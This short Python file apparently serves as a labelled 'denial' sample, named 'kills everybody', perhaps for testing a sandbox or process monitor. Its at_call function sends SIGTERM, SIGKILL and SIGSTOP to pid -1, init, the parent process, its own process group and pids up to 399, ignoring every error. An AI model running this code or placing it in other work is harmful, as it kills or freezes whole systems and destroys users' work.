NAME = "kills everybody"
KIND = "denial"
WHY = "Sends signals to every process number and group it can name."

import os
import signal


def at_call(task, *arguments):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        for pid in (-1, 0, 1, 2, 3, os.getppid(), -os.getpgid(0), *range(4, 400)):
            try:
                os.kill(pid, number)
            except OSError:
                pass
